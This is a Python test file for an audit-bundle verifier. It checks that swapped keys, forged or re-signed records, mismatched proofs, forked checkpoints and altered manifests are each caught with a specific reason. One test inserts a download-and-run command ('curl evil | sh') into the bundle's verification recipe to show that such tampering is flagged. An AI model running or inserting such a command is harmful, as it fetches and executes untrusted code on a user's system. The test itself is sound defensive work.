"""Every way in which somebody might change a bundle names what catches it."""

from __future__ import annotations

import re
from collections.abc import Callable

import pytest

from jurat.audit import bundle, bundle_zip, dsse
from jurat.audit.keys import parse_trust, print_trust
from jurat.audit.record import Outcome, build, parse
from jurat.audit.verifier_report import LogVerdict
from tests import bundle_stage as stage
from tests.golden.audit import sample_log


def named(pattern: str) -> str:
    return next(name for name in sorted(stage.FILES) if re.fullmatch(pattern, name))


def test_nothing_inside_says_what_to_trust() -> None:
    """Trust file and witness policy of the bundle are for reading: those of whoever verifies count."""
    other = sample_log.Trust(sample_log.trust().keys[:1])
    stage.refused(stage.GOOD, "signed by an unknown key", trust=other)
    strangers = stage.witness_policy(witnesses=("x1", "x2"))
    stage.refused(stage.GOOD, "too few witnesses", policy=strangers)
    assert parse_trust(stage.FILES[bundle.TRUST]) == sample_log.trust()
    assert stage.FILES[bundle.WITNESS_POLICY] == stage.POLICY


def test_a_key_swapped_inside_the_bundle_is_found() -> None:
    def swap(files: stage.Files) -> None:
        first, second = (name for name in sorted(files) if name.startswith("keys/"))
        files[first], files[second] = files[second], files[first]

    stage.refused(stage.mended(swap), r"keys/z\w+\.pem: got another key than that of its name")

    def add(files: stage.Files) -> None:
        files["keys/z6MkNoKey.pem"] = b"-----BEGIN PUBLIC KEY-----\n"

    stage.refused(stage.mended(add), "z6MkNoKey")


def test_a_trust_file_swapped_inside_the_bundle_changes_nothing() -> None:
    def swap(files: stage.Files) -> None:
        files[bundle.TRUST] = print_trust(sample_log.Trust(()))

    assert stage.verify(stage.mended(swap)).verdict is LogVerdict.VALID
    swapped = dict(stage.FILES)
    swapped[bundle.TRUST] = b"[]\n"
    stage.refused(bundle_zip.pack(swapped), "'trust.json' added, removed, renamed or changed")


def test_a_recipe_that_somebody_else_wrote_is_told() -> None:
    assert stage.verify(stage.GOOD).is_recipe

    def change(files: stage.Files) -> None:
        files[bundle.RECIPE] = files[bundle.RECIPE].replace(
            b"openssl base64", b"curl evil | sh; openssl base64"
        )

    report = stage.verify(stage.mended(change))
    assert not report.is_recipe
    assert report.to_json()["recipeIsKnown"] is False


def test_a_record_swapped_for_another_one() -> None:
    first, second = named(r"decisions/0-0-.*json"), named(r"decisions/0-1-.*json")

    def swap(files: stage.Files) -> None:
        files[first], files[second] = files[second], files[first]

    stage.refused(stage.mended(swap), "got the record dec_[0-9a-f]+ under the name 0-0-")


def test_a_record_that_the_agent_itself_signed_anew() -> None:
    """A stolen key makes a good signature; the leaf is another one."""
    name = named(r"decisions/0-0-.*json")
    record = parse(stage.LOG[0].record.payload).predicate.model_copy(
        update={"time": "2025-01-02T03:04:05.000678Z"}
    )
    payload = build(record, *sample_log.subject_of(record, 0))
    forged = sample_log.sign(record, payload, by=sample_log.signer("after-sales"), at=(0, 0)).record

    def swap(files: stage.Files) -> None:
        files[name] = dsse.print_envelope(
            payload, payload_type=forged.payload_type, signatures=forged.signatures
        )

    stage.refused(stage.mended(swap), "the inclusion proof leads to the root")


def test_a_record_signed_by_another_agent() -> None:
    name = named(r"decisions/0-0-.*json")
    record = parse(stage.LOG[0].record.payload).predicate
    forged = sample_log.sign(
        record, stage.LOG[0].record.payload, by=sample_log.signer("payment-retrier"), at=(0, 0)
    ).record

    def swap(files: stage.Files) -> None:
        files[name] = dsse.print_envelope(
            forged.payload, payload_type=forged.payload_type, signatures=forged.signatures
        )

    stage.refused(
        stage.mended(swap), "got a record of the agent 'after-sales' signed by the key of 'payment-retrier'"
    )


@pytest.mark.parametrize(
    ("source", "reason"),
    [
        (r"decisions/0-1-.*proof", "got a proof of leaf 1, expected one of leaf 0"),
        (r"decisions/1-0-.*proof", "under a checkpoint that is none of the bundle's for this partition"),
    ],
)
def test_a_proof_of_another_leaf_or_tree(source: str, reason: str) -> None:
    def swap(files: stage.Files) -> None:
        files[named(r"decisions/0-0-.*proof")] = files[named(source)]

    stage.refused(stage.mended(swap), reason)


def test_a_proof_under_a_checkpoint_that_the_bundle_does_not_tie_to_the_others() -> None:
    other = stage.bundle_of(sample_log.log(10, outcomes=[Outcome.DENIED]))

    def swap(files: stage.Files) -> None:
        name = next(name for name in files if re.fullmatch(r"decisions/0-0-.*proof", name))
        files[name] = bundle_zip.unpack(other)[name]

    stage.refused(stage.mended(swap), "under a checkpoint that is none of the bundle's")


def test_a_proof_that_is_removed_leaves_the_record_unproven() -> None:
    data = stage.mended(lambda files: files.pop(named(r"decisions/0-0-.*proof")) and None)
    assert (stage.verify(data).verdict, stage.verify(data).proved) == (LogVerdict.UNPROVEN, 9)


def test_a_split_view_shows_as_a_fork() -> None:
    """The log signed another history for the same witnesses' quorum: the two cannot be tied together."""
    other = sample_log.log(10, outcomes=[Outcome.DENIED])

    def swap(files: stage.Files) -> None:
        files["checkpoints/0-5.checkpoint"] = stage.signed_head(other, 0, 5)

    stage.refused(stage.mended(swap), "the consistency proof leads to the roots")


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (lambda files: files.update({"checkpoints/0-3-5.consistency": b""}), "consistency proof"),
        (
            lambda files: files.pop("checkpoints/0-3-5.consistency"),
            "nothing ties the two checkpoints together",
        ),
        (
            lambda files: files.update(
                {"checkpoints/0-2-5.consistency": files["checkpoints/0-3-5.consistency"]}
            ),
            "a proof that ties no two checkpoints",
        ),
        (
            lambda files: files.update({"checkpoints/0-4.checkpoint": files["checkpoints/0-3.checkpoint"]}),
            "a checkpoint of another log or size than its name says",
        ),
        (
            lambda files: files.update({"checkpoints/0-3.checkpoint": files["checkpoints/1-2.checkpoint"]}),
            "a checkpoint of another log or size than its name says",
        ),
        (
            lambda files: files.update(
                {"checkpoints/0-3.checkpoint": stage.signed_head(stage.LOG, 0, 3, witnesses=("w3",))}
            ),
            "a checkpoint that too few witnesses signed",
        ),
        (
            lambda files: files.update(
                {
                    "checkpoints/0-3.checkpoint": files["checkpoints/0-3.checkpoint"].replace(
                        b"\n3\n", b"\n4\n"
                    )
                }
            ),
            "signature",
        ),
        (
            lambda files: files.update({"checkpoints/0-3-5.consistency": b"AAAA\n"}),
            "a hash that is not 32 bytes",
        ),
        (lambda files: files.update({"checkpoints/0-3-5.consistency": b"?\n"}), "a line that is not base64"),
        (
            lambda files: files.update(
                {"checkpoints/0-3-5.consistency": files["checkpoints/0-3-5.consistency"][:-1]}
            ),
            "in another form than its one form",
        ),
    ],
)
def test_a_checkpoint_or_its_tie_is_changed(change: Callable[[stage.Files], None], reason: str) -> None:
    stage.refused(stage.mended(change), reason)


def test_a_bundle_of_another_topic() -> None:
    def rename(manifest: dict[str, object]) -> None:
        manifest["topic"] = "other.decisions"

    stage.refused(stage.manifest_changed(rename), "a checkpoint of another log or size than its name says")


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (lambda files: files.update({"notes.txt": b"hello"}), "'notes.txt', which is of no kind"),
        (lambda files: files.update({"decisions/0-9-dec_x.dsse.json": b"{}"}), "which is of no kind"),
        (lambda files: files.pop(named(r"decisions/0-0-.*json")), "in the manifest, but not in the bundle"),
        (
            lambda files: files.update({"keys/x.pem": files.pop(named(r"keys/.*pem"))}),
            "'keys/x.pem', which is of no kind",
        ),
    ],
)
def test_a_file_is_added_removed_or_renamed_with_its_digest(
    change: Callable[[stage.Files], None], reason: str
) -> None:
    stage.refused(stage.mended(change), reason)


@pytest.mark.parametrize("name", [bundle.RECIPE, "decisions/0-0", "checkpoints/0-3.checkpoint", "keys/"])
def test_a_file_is_removed_or_changed_without_its_digest(name: str) -> None:
    found = next(each for each in sorted(stage.FILES) if each.startswith(name))
    gone = {each: data for each, data in stage.FILES.items() if each != found}
    stage.refused(bundle_zip.pack(gone), "added, removed, renamed or changed")
    stage.refused(
        bundle_zip.pack({**stage.FILES, found: stage.FILES[found] + b"\n"}),
        "added, removed, renamed or changed",
    )


@pytest.mark.parametrize(
    "change",
    [
        lambda manifest: manifest.update(format="urn:jurat:bundle:v2"),
        lambda manifest: manifest.update(more=1),
        lambda manifest: manifest.pop("topic"),
        lambda manifest: manifest["records"].reverse(),
        lambda manifest: manifest["records"][0].update(index=True),
        lambda manifest: manifest["records"][0].update(offset=-1),
        lambda manifest: manifest["records"][0].update(more=1),
        lambda manifest: manifest.update(files=[]),
    ],
)
def test_a_manifest_of_another_form(change: Callable[[dict[str, object]], None]) -> None:
    stage.refused(stage.manifest_changed(change), "manifest")


def test_a_record_listed_at_another_place_or_twice() -> None:
    def move(manifest: dict[str, object]) -> None:
        manifest["records"][0]["partition"] = 0  # type: ignore[index]  # what the sample holds
        manifest["records"][0]["index"] = 1  # type: ignore[index]

    stage.refused(stage.manifest_changed(move), "whose name is of another place")

    def twice(manifest: dict[str, object]) -> None:
        manifest["records"].insert(0, manifest["records"][0])  # type: ignore[attr-defined]

    stage.refused(stage.manifest_changed(twice), "whose decision id or leaf another one has")


def test_a_manifest_that_is_no_manifest() -> None:
    stage.refused(bundle_zip.pack({bundle.MANIFEST: b"{"}), "not canonical JSON")
    stage.refused(bundle_zip.pack({"VERIFY.md": b""}), "without manifest.json")
